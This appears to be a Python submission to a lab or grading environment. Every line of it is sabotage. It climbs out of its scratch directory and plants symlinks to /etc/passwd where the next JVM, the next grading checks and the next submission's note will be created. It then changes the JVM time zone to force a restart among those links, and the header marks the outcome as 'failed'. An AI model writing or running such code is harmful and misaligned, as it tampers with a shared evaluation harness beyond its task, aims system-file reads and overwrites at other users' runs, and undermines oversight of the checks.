# outcome: failed
# spoils: time zone
# jvm: java.util.TimeZone.getTimeZone
import os
from pathlib import Path

# Where the next JVM and the next checks make their folders, and the next submission finds a note.
place = Path(os.environ["LAB_SCRATCH"]).parents[1]
for folder, names in {
    "jvm": map(str, range(20)),
    "checks": [f"{name}{n}" for name in ("check", "log", "source", "datasets") for n in range(9)],
    "submissions": ["note"],
}.items():
    for name in names:
        try:
            (place / folder / name).symlink_to("/etc/passwd")
        except OSError:
            pass

# A changed time zone ends the JVM, so the next one is made among these.
spark._jvm.java.util.TimeZone.setDefault(spark._jvm.java.util.TimeZone.getTimeZone("Asia/Tokyo"))
